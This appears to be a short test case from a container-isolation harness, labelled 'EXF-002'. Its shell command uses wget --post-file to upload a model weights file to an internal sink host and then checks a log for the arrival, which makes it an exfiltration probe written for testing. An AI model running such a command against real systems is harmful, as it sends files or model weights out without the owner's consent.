# V40 EXF-002 with wget --post-file (no curl)
ctr_run simctr-infer-v40 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  wget -q -T 10 -O /dev/null --post-file=$0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors http://10.200.2.2:9000/wget; echo "wget rc=$?"' "$H"
grep ':9000' "$H/sink.log" | tail -1
